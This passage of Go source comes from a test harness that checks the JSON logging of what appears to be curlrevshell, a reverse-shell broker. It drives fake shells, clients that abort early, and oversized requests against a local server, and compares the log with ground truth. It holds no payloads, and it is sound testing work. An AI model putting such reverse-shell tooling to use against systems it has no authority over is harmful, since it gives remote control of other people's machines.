		if err := dec.Decode(&m); err != nil {
			viol("log-line-not-json", fmt.Sprintf("log line does not parse as one JSON object: %v: %q", err, trunc(e.S)))
			continue
		}
		if dec.More() {
			viol("log-line-framing", fmt.Sprintf("more than one JSON value on a log line: %q", trunc(e.S)))
		}
		recs = append(recs, rec{seq: e.Seq, m: m, raw: e.S})
	}
	// 2. input deliveries, from the writers' own events
	type deliv struct {
		att  int
		data string
		seq  int // sequence number of the event that completed the delivery
	}
	var din []deliv
	pending := map[int]*deliv{}
	kind := map[int]bk.WriterKind{}
	for _, a := range w.Attempts {
		kind[a.ID] = a.Wr.Kind
	}
	for _, e := range evs {
		switch e.Kind {
		case "w":
			if kind[e.Att] == bk.WPlain {
				din = append(din, deliv{e.Att, e.S, e.Seq})
			} else {
				if p := pending[e.Att]; p != nil {
					p.data += e.S
				} else {
					pending[e.Att] = &deliv{e.Att, e.S, e.Seq}
				}
			}
		case "f":
			if p := pending[e.Att]; p != nil {
				p.seq = e.Seq
				din = append(din, *p)
				delete(pending, e.Att)
			}
		case "werr", "ferr":
			delete(pending, e.Att)
		}
	}
	var rin, rout []rec
	for _, rc := range recs {
		if rc.str("msg") == bk.MsgShellIO {
			switch rc.str("direction") {
			case "input":
				rin = append(rin, rc)
			case "output":
				rout = append(rout, rc)
			default:
				viol("io-record-without-direction", fmt.Sprintf("Shell I/O record without a direction: %q", trunc(rc.raw)))
			}
		}
	}
	r.Count("input_deliveries", int64(len(din)))
	r.Count("input_records", int64(len(rin)))
	for i := 0; i < len(din) || i < len(rin); i++ {
		switch {
		case i >= len(rin):
			viol("delivered-input-not-logged", fmt.Sprintf("line %q was written and flushed to attempt %d but has no Shell I/O record (%d deliveries, %d records)", trunc(din[i].data), din[i].att, len(din), len(rin)))
			i = len(din)
		case i >= len(din):
			viol("undelivered-input-logged", fmt.Sprintf("Shell I/O input record %q has no delivery (%d deliveries, %d records)", trunc(rin[i].raw), len(din), len(rin)))
			i = len(rin)
		default:
			d, rc := din[i], rin[i]
			if rc.str("data") != toValid(d.data) || rc.att() != d.att {
				viol("input-record-mismatch", fmt.Sprintf("input record #%d is %q (att %d) but delivery #%d was %q (att %d)", i, trunc(rc.str("data")), rc.att(), i, trunc(toValid(d.data)), d.att))
				i = len(din) + len(rin)
			} else if rc.seq < d.seq {
				viol("input-logged-before-delivery", fmt.Sprintf("the record of line %q (log seq %d) precedes the completion of its delivery (seq %d)", trunc(d.data), rc.seq, d.seq))
			}
		}
	}
	// 3. output: chunks handed to the operator
	var dout []bk.Event
	for _, e := range evs {
		if e.Kind == "op" && e.Plain {
			dout = append(dout, e)
		}
	}
	r.Count("output_deliveries", int64(len(dout)))
	r.Count("output_records", int64(len(rout)))
	for i := 0; i < len(dout) || i < len(rout); i++ {
		switch {
		case i >= len(rout):
			viol("delivered-output-not-logged", fmt.Sprintf("chunk %q was handed to the operator but has no Shell I/O record (%d chunks, %d records)", trunc(dout[i].S), len(dout), len(rout)))
			i = len(dout)
		case i >= len(dout):
			viol("undelivered-output-logged", fmt.Sprintf("Shell I/O output record %q has no chunk on the operator channel (%d chunks, %d records)", trunc(rout[i].raw), len(dout), len(rout)))
			i = len(rout)
		default:
			if rout[i].str("data") != toValid(dout[i].S) {
				viol("output-record-mismatch", fmt.Sprintf("output record #%d is %q but chunk #%d was %q", i, trunc(rout[i].str("data")), i, trunc(toValid(dout[i].S))))
				i = len(dout) + len(rout)
			}
		}
	}
	// 4. connections: admitted streams (those that reached the release hook) have one connect and one disconnect record
	admitted := map[string]bool{}
	for _, e := range evs {
		if e.Kind == "hook" && e.S == "release" {
			admitted[fmt.Sprintf("%d/%s", e.Att, e.Dir)] = true
		}
	}
	count := func(att int, dir, msg string) int {
		c := 0
		for _, rc := range recs {
			if rc.att() == att && rc.str("msg") == msg && (dir == "" || rc.str("direction") == dir) {
				c++
			}
		}
		return c
	}
	for k := range admitted {
		var att int
		var dir string
		fmt.Sscanf(strings.Replace(k, "/", " ", 1), "%d %s", &att, &dir)
		r.Count("admitted_streams", 1)
		if c := count(att, dir, bk.MsgNew); c != 1 {
			viol("connect-record-count", fmt.Sprintf("admitted stream %s has %d New connection records", k, c))
		}
		if c := count(att, dir, bk.MsgDisconnected); c != 1 {
			viol("disconnect-record-count", fmt.Sprintf("admitted stream %s has %d Disconnected records", k, c))
		}
	}
	for _, a := range refused {
		for _, d := range a.Dirs() {
			if admitted[fmt.Sprintf("%d/%s", a.ID, d)] {
				continue // was in fact admitted (e.g. the shell had just ended); judged above
			}
			r.Count("refused_streams", 1)
			n := 0
			for _, rc := range recs {
				if rc.att() == a.ID && isRefusalRecord(rc.str("level"), rc.str("msg")) && (rc.str("direction") == d || rc.str("direction") == "") {
					n++
				}
			}
			want := 1
			if a.Key == "" && a.Kind != "io" {
				want = 1
			}
			if n != want {
				viol("refusal-record-count", fmt.Sprintf("refused attempt %d/%s has %d error records naming a reason, expected %d", a.ID, d, n, want))
			}
			if c := count(a.ID, d, bk.MsgNew); c != 0 {
				viol("refused-stream-has-connect-record", fmt.Sprintf("refused attempt %d/%s has a New connection record", a.ID, d))
			}
		}
	}
}

func trunc(s string) string {
	if len(s) > 100 {
		return s[:100] + "…"
	}
	return s
}

func Run(r *mon.Run) {
	r.Rule = "in-process sessions: one broker logging through a real slog JSON handler whose every Write is recorded; 1-4 shell generations (uni/bidirectional, four writer kinds) with lock-step input lines and output chunks made of quotes, backslashes, newlines, control bytes, U+2028/9, invalid UTF-8, JSON look-alikes and long runs, interleaved with attempts that must be refused, ended by EOF, error, cancel, failing write or failing flush; after a marker line the log is decoded strictly line by line and paired one-to-one, in order, with the deliveries recorded by the harness writers (write+flush) and the operator channel (Plain chunks); admitted streams (reached the release hook) need one connect and one disconnect record, refused ones one error record naming a reason. Real-binary sessions: the -log file of the -race binary after a pty session with fake shells is decoded strictly and the session is reconstructed from it alone and compared with ground truth. How the log file is named (engines binary and logfile, every run): by -log only, by CURLREVSHELL_LOG only, by both naming the same file (spelled differently where possible), or by both naming DIFFERENT files - then 'with -log set' is about the file -log names (doc/flags.md: the flag overrides the variable): that file must exist and hold the complete transcript, what lands in the other file is not judged; the path is absolute or relative to the program's working directory (a directory of its own, neither HOME nor the file's nor the harness's), the flag stands before, between or after the other flags and is written -log FILE, -log=FILE, --log FILE or --log=FILE; every planned naming is a floor. Log file over several runs (engine logfile): 2-4 runs of the -race binary against the SAME file (named in those ways), which before the first run is absent, empty, or holds short or long foreign content with or without a final newline; somebody else may append to it between runs and cuts it while the program runs and is at rest (to nothing, to a line boundary, in the middle of a line, copy-then-truncate); after every run and before every cut the bytes the file held before must be an unchanged prefix and what follows must be nothing but one-line JSON objects from which exactly the harness's own streams, refusals, lines and output of that stretch are reconstructed. Clients that give up early (engine aborts): in-process server on real TLS, rounds of 40 clients, each from its own loopback address, for /io, /io/, /io/x, /i/id and /o/id, which get as far as the TCP connection, a (partial) ClientHello, the finished handshake, part of the request header, the whole header, header and a chunk, header and part of a chunk, or header and the server's answer, and then reset (SO_LINGER 0), close, close the TLS session or half-close, with nobody, a bidirectional or a two-connection shell attached; once the server has finished with every connection (sentinel request answered and no connection-serving goroutine left) every client the program demonstrably handled (the operator got a notice '[address] ...' about it, a record exists, or it got the handler's answer) must have, for each direction of its request, one connect and one disconnect record or an error record naming the reason, output records holding no more than a prefix of what it sent, and no input records. Request shapes (engine shapes): in-process server on real TLS, one client at a time, each from its own loopback address, asks for /i/{id}, /o/{id} or /io(/) with every method of GET, POST, PUT, HEAD and a made-up one, and every body framing of: none, Content-Length: 0, a declared length (sent in full or in part), chunked with no chunk, chunked with data (finished or not), HTTP/1.0 without and with Content-Length, Expect: 100-continue (length or chunked; the body follows the go-ahead, the answer or the first sign that the program is busy with the request), while the broker is idle, holds the other half of a shell under the same id, holds a half under another id, or holds a whole shell (bidirectional or two connections); the client sends a complete request, waits until the program has answered or has told the operator or the log anything about its address, lets a finished output body end the stream by itself, and leaves; once no connection is being served any more, every request the program demonstrably handled (a notice '[address] ...' to the operator, a record, or the handler's 200) must have for each of its directions one connect and one disconnect record or an error-level record naming a reason, the same goes for the occupants' streams (connect + disconnect), the output records of the case hold exactly what the operator was handed as shell output and no more than a prefix of what the client sent, and no input records exist; floors per method, framing, endpoint, broker state and per (endpoint, framing) cell demonstrably handled. Big request heads (engine bighead): in-process server on real TLS, one case at a time, each client from its own loopback address: a stream request (GET /i/{id}, chunked POST /o/{id}, chunked POST /io) whose request line and header lines together are 4 KiB to 1 MiB long (five size classes: 4-16K, 16-64K, 64-256K, 256K-1M, within 4 KiB below 1 MiB) because of an id of up to 512 KiB (for /io: a path tail /io/...), a query of up to 512 KiB, 1-100 extra header lines (distinct names or one repeated name) of up to 64 KiB each, one fat header line (Proxy-Authorization, Authorization, X-Forwarded-For), a Cookie or a User-Agent of up to 64 KiB, or a mixture of these; it comes to an idle broker as the first connection of a shell (its partner, which has the same id and otherwise an ordinary head, follows), as the second one (the partner is there), while the same direction is held by somebody else (under another or the same id), while the other direction is held under another id, or while a whole shell (bidirectional or two connections, another or the same id) is attached; a request that will be refused may bring an output chunk along; to every shell a big request became part of 1-3 lines are typed (each awaited on the input side) and 1-3 output chunks are sent (each awaited on the operator channel), interleaved by the PRNG, then the output body ends, the output side leaves or the input side leaves; once no connection is being served any more the big request must have, for each of its directions, one connect and one disconnect record and no error record, or error records naming a reason and no connect record - a request that was turned away (any status, or the connection ended on it) without any record or notice is a refused stream without its error record - the partner's and the occupants' streams one connect and one disconnect record each, the input records must be exactly the typed lines, in order, under the input side's address, the output records exactly the chunks the operator was handed, in order, under the output side's address, and nothing else; floors per endpoint, outcome, kind of bigness and size class (planned and demonstrably handled), per endpoint for attached, refused and traffic-carrying cases, for the refusal reasons 'Connection already established' and 'Incorrect key', and for the largest head (within 4 KiB of 1 MiB), the longest id (512 KiB), the longest header line and the number of header lines (100). The real-binary engines (binary, logfile) send in every shell generation one request for the input side, which is taken, whose head is 16-300 KiB (a 16 KiB X-Forwarded-For, a 21 KiB id, 62 extra header lines with a 56 KiB Cookie and a 60 KiB Proxy-Authorization, or a 40 KiB User-Agent): its error record must be in the log file like that of any other refused request. Configuration matrix (engine config): the -race binary with -log is run under each of its other documented options alone (quick: one variant each, chosen by index and seed; thorough: every variant) and under pairs of different options (quick: as many pairs as options, every option in two; thorough: every pair): -one-shell, -serve-files-from (directory, single file, empty value, a name with spaces at its edges, relative, with ../ and ./ in it, a symlink), -callback-address (one, three dozen), -callback-template (regular file, symlink, missing), -ctrl-i (.sh file, directory, missing, a name with % and spaces), -tls-certificate-cache (explicit, the default below HOME, inside the served directory), -no-timestamps, -ipv6-one-liners, -listen-address (localhost:0, 127.0.0.2:0, a zero-padded port), -prompt (with % and quotes, empty), the log named by CURLREVSHELL_LOG (alone, with -log), and -icanhazip (no network: fails at once) and -print-ctrl-i (with and without a source), with which the program ends at start-up; flags are spelled -flag value, -flag=value, --flag value or --flag=value by index and the first option's flag is given twice (another value first) in every third case. Under every configuration that leaves the program running a two-connection shell (/i/{id} + /o/{id}) and a bidirectional one (/io) are attached one after the other (with -one-shell: one run for each), each gets three typed lines (awaited by the fake shell) and three output chunks (awaited on the terminal) with quotes, backslashes, JSON look-alikes, control and non-UTF-8 bytes, a Tab/Ctrl+I insertion where -ctrl-i names a .sh file (the fake shell reads the number of bytes the program says it inserted, plus the newline), and an attempt for the input side that is refused; the shell ends by the output body ending, the output side leaving or the input side leaving; in every third case a third shell is still attached when the program is told to quit, by Ctrl+D or Ctrl+C by index (with -one-shell the program ends after its shell, at the latest at the operator's key). After the exit the log file alone must give the same streams (connect and disconnect record each), refusals (error record each), input lines in order and output as in the default configuration; a shell request that the program answered without the shell ever becoming ready must have its error records naming a reason (or connect records): a stream of which the log says nothing is a refused stream without its error record. With an option that ends the program at start-up the log file, if any, must be JSON lines without stream records. Floors: every planned case, option (alone and in a pair at least), variant, pair, spelling, flag given twice, both kinds of shell under every option, insertions, quits with a shell attached. Shutdowns with a stream that cannot end at once (engine stall, 6 / 18 cases next to the other engines): a two-connection or bidirectional shell whose input side (receive buffer of 4 KiB) reads two lines and then stops reading, under one more option of the matrix, and then a Tab insertion of a 24-40 MiB -ctrl-i file, or 1500 typed lines of 4 KiB (more than the connection buffers hold, fewer on top than the program's queue of 1024), or 0.6-4 MiB of output sent at once (with the terminal read or not read any more); then Ctrl+D or Ctrl+C; the client hangs up 3-8 s after the key (and the terminal is read again); when the program has exited (or, if it is still there 20 s after the hang-up, which is not this property's business, when the records have come) the log must have one connect and one disconnect record for each of the two streams, the input records must be the two lines the shell read followed by no more than the lines typed afterwards, in order (never the insertion, which the shell did not read), and the output records a prefix of what was sent; floors per stuffing, shell kind and key, and for cases in which the program was demonstrably still waiting for the stream when the client hung up. distinct = distinct session scripts / log-file histories / (target, stage, ending, occupant) combinations / (method, framing, endpoint, broker state) combinations / (endpoint, outcome, kind of bigness, size class) combinations / configuration scripts / stalled-shutdown scripts"
	r.Assumptions = []string{"expected record data = delivered bytes with every invalid UTF-8 byte replaced by U+FFFD", "output data of the real binary is compared by concatenation because TLS/HTTP chunking is not under the client's control", "the log file is append-only JSON lines (the statement's 'log file' state): content that was in the file before a run, or that was left after somebody cut the file while the program was at rest, is not the program's to change, and records written afterwards follow it directly", "a client of the aborts engine that left neither a notice nor a record and got no answer is taken as never handled (its reset can beat the request) and nothing is demanded of it; whether a header flush actually fails is up to the kernel's timing, so that branch has a floor far below the usual count", "the aborts and shapes engines decide quiescence by looking at this process's goroutines (those started by net/http.(*Server).Serve): only these engines run an HTTP server in the harness process, one after the other", "shapes: a request for the input side that comes with a body (which nobody reads) is not watched by the HTTP library for the client's leaving, so the program cannot know before its next write that such a client is gone; where such a stream is attached alone the harness ends it the way a shell would, by the matching output side (chunked POST without a chunk), whose stream is judged like any other", "shapes: a 200 status is taken as the handler's answer (the HTTP library's own refusals are 4xx/5xx); a client that got no answer and left no notice or record is taken as never handled and nothing is demanded of it, but three quarters of the clients of every method, broker state and (endpoint, framing) cell must have been handled for the run to count", "bighead: the program does not configure how big a request head may be, so net/http's default applies: measured on the unchanged program, a head of up to 1 MiB + 4096 bytes is served and a longer one is answered 431 by net/http before any handler runs; the engine stays at or below 1 MiB (DefaultMaxHeaderBytes) and sends nothing along with a head but, for requests that will be refused, one 20-byte chunk; every such request is therefore a stream request the program gets to see in full, and one that is answered or cut off without a record was refused without an error record", "bighead: whether a big request is attached or refused is read from the log itself (connect record or error record of its address); a case in which the program attaches what it should refuse or refuses what nothing stands in the way of is reported as inconclusive (other properties judge admission), as is a case in which the operator channel got other output than the shell sent", "bighead: which reason a refusal names is counted, not judged; for /io, whose two sides are refused independently, it depends on which side comes first", "with -log and CURLREVSHELL_LOG naming different files, the statement's log is the file named by -log (the flag overrides the variable, doc/flags.md); the other file is not looked at", "config: the property's oracle does not depend on the configuration; which options the program accepts and what they do otherwise is not judged; a run in which the binary does not start or does not exit cleanly is inconclusive", "config: a shell request counts as handled without becoming ready only when the HTTP answer to its input side arrived while no 'Shell is ready' notice had been shown (the answer to an attached input side comes with its first line only)", "stall: whether a write to a client that stopped reading really blocks is up to the kernel's buffer sizes; it is observed (the program still there when the client hangs up), floored over the whole engine and never part of the verdict; the verdict is read from the log file after the program's exit only", "stall: the unchanged program may not exit at all when it is told to quit while a lot of shell output is queued for the terminal (iobroker's notice to the operator blocks on the full output queue after the disconnect record was written); termination is not this property's business: such a case is judged on the log once the records are there, and counted (stall_program_did_not_exit)"}
	n := r.N(300, 6000)
	// the stalled shutdowns need real time (3-8 s each): they run next to the
	// other engines and are waited for at the end
	waitStalls := func() {}
	if r.WantEngine("stall") {
		done := make(chan func(), 1)
		go func() {
			bin, err := crs.Build(r.Work, "")
			if err != nil {
				r.Inconclusive("cannot build the binary: " + err.Error())
				done <- func() {}
				return
			}
			done <- stallShutdowns(r, bin)
		}()
		waitStalls = func() { (<-done)() }
	}
	if r.WantEngine("session") {
		mon.Parallel(n, runtime.NumCPU(), func(i int) {
			if r.Want("session", i) {
				runSession(r, i)
			}
		})
	}
	if r.WantEngine("refusals") {
		refusalRecords(r)
	}
	if r.WantEngine("aborts") {
		abortingClients(r)
	}
	if r.WantEngine("shapes") {
		requestShapes(r)
	}
	if r.WantEngine("bighead") {
		r.Logf("bighead: requests with big heads")
		bigHeads(r)
		r.Logf("bighead done")
	}
	if r.WantEngine("binary") {
		binarySessions(r)
	}
	if r.WantEngine("logfile") {
		logFileRuns(r)
	}
	if r.WantEngine("config") {
		r.Logf("config: the binary under its other options")
		configEngine(r)
		r.Logf("config done")
	}
	waitStalls()
	r.Floor("json_lines", 2000)
	r.Floor("input_deliveries", 500)
	r.Floor("output_deliveries", 500)
	r.Floor("refused_streams", 100)
	r.Floor("admitted_streams", 300)
}

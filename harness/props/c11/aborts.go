package c11

import (
	"bufio"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
	"github.com/magisterquis/curlrevshell/verifharness/mon/hk"
)

// Engine "aborts": clients that give up early.  Every client of a round has
// its own loopback source address (127.a.b.c), so that the operator notices
// ("[host] ...") and the JSON records (http_request.remote_addr) it caused
// can be attributed to it.  A client connects, gets as far as its stage says
// (TCP only, part of the TLS handshake, handshake done, part of the request
// header, the whole header, header and part of a body, header and the answer)
// and then resets (SO_LINGER 0), closes, closes the TLS session or half-closes
// the connection.  The verdict is taken at a point where the server has
// finished with every connection it accepted (see quiesce), on logical
// grounds only.

var (
	abortTargets = []string{"/io", "/io/", "/io/x", "/i/", "/o/"} // the last two get an id appended
	abortStages  = []string{"tcp", "hello", "handshake", "part-header", "header", "header+chunk", "header+part-chunk", "header+answer"}
	abortEnds    = []string{"rst", "close", "tls-close", "half-close"}
)

const abortClientsPerRound = 40

type abortPlan struct {
	Host   string `json:"host"`
	Class  string `json:"-"` // entry of abortTargets
	Target string `json:"target"`
	Stage  string `json:"stage"`
	End    string `json:"end"`
	Nap    int    `json:"nap_us"`
	Cut    int    `json:"cut"` // where a partial header / ClientHello is cut (per mille)
	Body   string `json:"body"`
}

type abortResult struct {
	Plan       abortPlan `json:"plan"`
	FullHeader bool      `json:"full_header_sent"`
	BodySent   string    `json:"body_sent"`
	Status     int       `json:"status"`
	Note       string    `json:"note,omitempty"`
}

// planAbort: the combination (target, stage, end) comes from the position
// alone, so that every tier covers every combination a fixed number of times;
// the cut points, the naps and the body come from the round's PRNG.
func planAbort(k, j int, rng *rand.Rand) abortPlan {
	nc := len(abortTargets) * len(abortStages) * len(abortEnds)
	c := (k*abortClientsPerRound + j) % nc
	p := abortPlan{
		Host:   fmt.Sprintf("127.%d.%d.%d", 16+(k>>8)&0x3f, k&0xff, j+1),
		Class:  abortTargets[c%len(abortTargets)],
		Target: abortTargets[c%len(abortTargets)],
		Stage:  abortStages[(c/len(abortTargets))%len(abortStages)],
		End:    abortEnds[c/(len(abortTargets)*len(abortStages))],
		Nap:    []int{0, 0, 0, 50, 500, 5000}[rng.IntN(6)],
		Cut:    1 + rng.IntN(999),
		Body:   fmt.Sprintf("<abort-%d-%d:%s>", k, j, strings.Repeat("y", rng.IntN(40))),
	}
	if strings.HasSuffix(p.Target, "/") && p.Target != "/io/" {
		p.Target += fmt.Sprintf("ab%d-%d", k, j)
	}
	return p
}

func (p abortPlan) dirs() []string {
	switch {
	case strings.HasPrefix(p.Target, "/io"):
		return []string{"input", "output"}
	case strings.HasPrefix(p.Target, "/i/"):
		return []string{"input"}
	}
	return []string{"output"}
}

func (p abortPlan) header() string {
	if strings.HasPrefix(p.Target, "/i/") {
		return "GET " + p.Target + " HTTP/1.1\r\nHost: gone.early\r\n\r\n"
	}
	return "POST " + p.Target + " HTTP/1.1\r\nHost: gone.early\r\nTransfer-Encoding: chunked\r\n\r\n"
}

func dialFrom(host, addr string) (*net.TCPConn, error) {
	d := &net.Dialer{Timeout: hk.Bound, LocalAddr: &net.TCPAddr{IP: net.ParseIP(host)}}
	c, err := d.Dial("tcp", addr)
	if err != nil {
		return nil, err
	}
	return c.(*net.TCPConn), nil
}

// cutConn ends the connection (through after) once the first write - the
// ClientHello - or a part of it has gone out.
type cutConn struct {
	net.Conn
	cut   int
	after func()
	done  bool
}

func (c *cutConn) Write(p []byte) (int, error) {
	if c.done {
		return 0, io.ErrClosedPipe
	}
	c.done = true
	n := len(p) * c.cut / 1000
	if c.cut > 500 {
		n = len(p)
	}
	c.Conn.Write(p[:n])
	c.after()
	return 0, io.ErrClosedPipe
}

// runAbort plays one client.
func runAbort(p abortPlan, addr string) (res abortResult) {
	res.Plan = p
	tcp, err := dialFrom(p.Host, addr)
	if err != nil {
		res.Note = "dial: " + err.Error()
		return
	}
	defer tcp.Close()
	var tc *tls.Conn
	end := func() {
		if p.Nap > 0 {
			time.Sleep(time.Duration(p.Nap) * time.Microsecond) // schedule perturbation only
		}
		switch p.End {
		case "rst":
			tcp.SetLinger(0)
			tcp.Close()
		case "close":
			tcp.Close()
		case "tls-close":
			if tc != nil {
				tc.SetWriteDeadline(time.Now().Add(hk.Bound))
				tc.Close()
			}
			tcp.Close()
		case "half-close":
			// say we're done and wait for the server to finish with us
			if tc != nil {
				tc.SetWriteDeadline(time.Now().Add(hk.Bound))
				tc.CloseWrite()
			} else {
				tcp.CloseWrite()
			}
			tcp.SetReadDeadline(time.Now().Add(hk.Bound))
			io.Copy(io.Discard, tcp)
			tcp.Close()
		}
	}
	switch p.Stage {
	case "tcp":
		end()
		return
	case "hello":
		cc := &cutConn{Conn: tcp, cut: p.Cut, after: end}
		tls.Client(cc, &tls.Config{InsecureSkipVerify: true}).Handshake()
		return
	}
	tc = tls.Client(tcp, &tls.Config{InsecureSkipVerify: true})
	tc.SetDeadline(time.Now().Add(hk.Bound))
	if err := tc.Handshake(); err != nil {
		res.Note = "handshake: " + err.Error()
		return
	}
	hdr := p.header()
	post := strings.HasPrefix(hdr, "POST")
	switch p.Stage {
	case "handshake":
	case "part-header":
		n := 1 + (len(hdr)-2)*p.Cut/1000
		io.WriteString(tc, hdr[:n])
	case "header":
		_, err := io.WriteString(tc, hdr)
		res.FullHeader = err == nil
	case "header+chunk":
		s := hdr
		if post {
			s += fmt.Sprintf("%x\r\n%s\r\n", len(p.Body), p.Body)
		}
		_, err := io.WriteString(tc, s) // one TLS record: header and chunk arrive together
		res.FullHeader = err == nil
		if post && err == nil {
			res.BodySent = p.Body
		}
	case "header+part-chunk":
		s := hdr
		part := p.Body[:1+(len(p.Body)-1)*p.Cut/1000]
		if post {
			s += fmt.Sprintf("%x\r\n%s", len(p.Body), part)
		}
		_, err := io.WriteString(tc, s)
		res.FullHeader = err == nil
		if post && err == nil {
			res.BodySent = part
		}
	case "header+answer":
		_, err := io.WriteString(tc, hdr)
		res.FullHeader = err == nil
		if err == nil && strings.HasPrefix(p.Target, "/io") {
			// /io answers at once with a bare header; /i and /o only when they are done
			hr, err := http.ReadResponse(bufio.NewReader(tc), &http.Request{Method: "POST"})
			if err == nil {
				res.Status = hr.StatusCode
				if p.Cut%2 == 0 {
					if _, err := fmt.Fprintf(tc, "%x\r\n%s\r\n", len(p.Body), p.Body); err == nil {
						res.BodySent = p.Body
					}
				}
			} else {
				res.Note = "no answer: " + err.Error()
			}
		}
	}
	end()
	return
}

var servingRe = "created by net/http.(*Server).Serve"

// quiesce waits until the server has finished with every connection made so
// far.  A sentinel request on a fresh connection is answered only after all
// earlier connections have left the accept queue and have their serving
// goroutine; the goroutines a http.Server starts for its connections are then
// watched until none is left (the handlers have returned, so every record
// and notice they produce has been produced).  Only this engine runs HTTP
// servers in this process, one at a time.
func quiesce(addr string) error {
	if res, err := hk.Get(addr, "", "sentinel", "/c"); err != nil || res.Status != 200 {
		return fmt.Errorf("sentinel request failed: %v", err)
	}
	deadline := time.Now().Add(3 * hk.Bound)
	buf := make([]byte, 1<<20)
	for {
		n := runtime.Stack(buf, true)
		if n == len(buf) {
			buf = make([]byte, 2*len(buf))
			continue
		}
		if !strings.Contains(string(buf[:n]), servingRe) {
			return nil
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("connections still being served after %s", 3*hk.Bound)
		}
		time.Sleep(2 * time.Millisecond)
	}
}

var noticeRe = regexp.MustCompile(`^\[(127\.\d+\.\d+\.\d+)\] (.*)$`)

type abortRec struct {
	Level, Msg, Dir, Data, Raw string
}

func abortRound(r *mon.Run, k int) {
	rng := r.Rng("aborts", k)
	s, err := hk.Start(hk.Config{})
	if err != nil {
		r.Inconclusive("aborts: server did not start: " + err.Error())
		return
	}
	defer s.Stop()
	// somebody else's shell, attached before the batch in two rounds out of three
	occHost := fmt.Sprintf("127.%d.%d.250", 16+(k>>8)&0x3f, k&0xff)
	occMode := []string{"none", "io", "i+o"}[k%3]
	var occConns []*tls.Conn
	occDial := func(req string) bool {
		tcp, err := dialFrom(occHost, s.Addr)
		if err != nil {
			r.Inconclusive("aborts: " + err.Error())
			return false
		}
		tc := tls.Client(tcp, &tls.Config{InsecureSkipVerify: true})
		tc.SetDeadline(time.Now().Add(hk.Bound))
		if _, err := io.WriteString(tc, req); err != nil {
			r.Inconclusive("aborts: occupant: " + err.Error())
			tcp.Close()
			return false
		}
		occConns = append(occConns, tc)
		return true
	}
	waitOp := func(sub string) bool {
		_, ok := s.Log.Wait(0, hk.Bound, func(e bk.Event) bool { return e.Kind == "op" && strings.Contains(e.S, sub) })
		if !ok {
			r.Inconclusive("aborts: occupant shell did not attach (" + sub + ")")
		}
		return ok
	}
	defer func() {
		for _, c := range occConns {
			c.Close()
		}
	}()
	switch occMode {
	case "io":
		if !occDial("POST /io HTTP/1.1\r\nHost: occupant\r\nTransfer-Encoding: chunked\r\n\r\n") || !waitOp("Shell is ready") {
			return
		}
	case "i+o":
		id := fmt.Sprintf("occ%d", k)
		if !occDial("GET /i/"+id+" HTTP/1.1\r\nHost: occupant\r\n\r\n") || !waitOp("Input connected") {
			return
		}
		if !occDial("POST /o/"+id+" HTTP/1.1\r\nHost: occupant\r\nTransfer-Encoding: chunked\r\n\r\n") || !waitOp("Shell is ready") {
			return
		}
	}
	// the batch
	plans := make([]abortPlan, abortClientsPerRound)
	for j := range plans {
		plans[j] = planAbort(k, j, rng)
	}
	results := make([]abortResult, len(plans))
	var wg sync.WaitGroup
	sem := make(chan struct{}, 12)
	for j := range plans {
		wg.Add(1)
		sem <- struct{}{}
		go func(j int) {
			defer wg.Done()
			defer func() { <-sem }()
			results[j] = runAbort(plans[j], s.Addr)
		}(j)
	}
	wg.Wait()
	for _, c := range occConns {
		c.Close()
	}
	if err := quiesce(s.Addr); err != nil {
		r.Inconclusive(fmt.Sprintf("aborts round %d: %v", k, err))
		return
	}
	tag := fmt.Sprintf("MARK-ABORTS-%d", k)
	mseq, ok := s.Mark(tag)
	if !ok {
		r.Inconclusive("aborts: marker lost")
		return
	}
	r.Count("abort_quiescence_points", 1)
	// ---- what the operator was told and what the log holds, per source address ----
	evs := s.Log.Snapshot()[:mseq]
	ops := map[string][]string{}
	recs := map[string][]abortRec{}
	viol := func(host, key, what string, res any) {
		var tail []string
		for _, e := range evs {
			if (e.Kind == "op" || e.Kind == "json") && strings.Contains(e.S, host) {
				tail = append(tail, e.Kind+": "+trunc(strings.TrimSpace(e.S)))
			}
		}
		r.Violate("aborts", k, key, what, map[string]any{"client": res, "occupant": occMode, "notices_and_records_of_this_client": tail})
	}
	for _, e := range evs {
		switch e.Kind {
		case "op":
			if e.Plain {
				continue
			}
			if m := noticeRe.FindStringSubmatch(e.S); m != nil {
				ops[m[1]] = append(ops[m[1]], m[2])
			}
		case "json":
			r.Count("abort_json_lines", 1)
			var m map[string]any
			dec := json.NewDecoder(strings.NewReader(e.S))
			if err := dec.Decode(&m); err != nil || !strings.HasSuffix(e.S, "\n") || strings.Count(e.S, "\n") != 1 || dec.More() {
				r.Violate("aborts", k, "log-line-not-json", fmt.Sprintf("a log write is not one complete one-line JSON object: %q", trunc(e.S)), nil)
				continue
			}
			hr, _ := m["http_request"].(map[string]any)
			ra, _ := hr["remote_addr"].(string)
			host, _, err := net.SplitHostPort(ra)
			if err != nil {
				continue
			}
			rc := abortRec{Raw: strings.TrimSpace(e.S)}
			rc.Level, _ = m["level"].(string)
			rc.Msg, _ = m["msg"].(string)
			rc.Dir, _ = m["direction"].(string)
			rc.Data, _ = m["data"].(string)
			recs[host] = append(recs[host], rc)
		}
	}
	judgeOne := func(host string, dirs []string, res abortResult, occupant bool) {
		told, got := ops[host], recs[host]
		handled := len(told) > 0 || len(got) > 0 || (res.Status == 200 && res.FullHeader)
		for _, t := range told {
			if strings.Contains(t, "Error sending initial HTTP response header") {
				r.Count("abort_header_flush_failures", 1)
				break
			}
		}
		if !handled {
			r.Count("abort_clients_never_handled", 1)
			return
		}
		r.Count("abort_clients_handled", 1)
		if len(told) > 0 {
			r.Count("abort_clients_told_to_operator", 1)
		}
		if len(got) == 0 {
			if len(told) > 0 {
				viol(host, "operator-told-but-no-log-record", fmt.Sprintf("the operator was told %q about the request %s from %s but the JSON log holds no record of it (neither a connect/disconnect pair nor an error record naming a reason)", told[0], res.Plan.Target, host), res)
			} else {
				viol(host, "handled-stream-has-no-record", fmt.Sprintf("the request %s from %s was answered (status %d) but the JSON log holds no record of it", res.Plan.Target, host, res.Status), res)
			}
			return
		}
		var outData strings.Builder
		for _, d := range dirs {
			news, discs, refs := 0, 0, 0
			for _, rc := range got {
				if rc.Dir != d && !(rc.Dir == "" && isRefusalRecord(rc.Level, rc.Msg)) {
					continue
				}
				switch {
				case rc.Msg == bk.MsgNew:
					news++
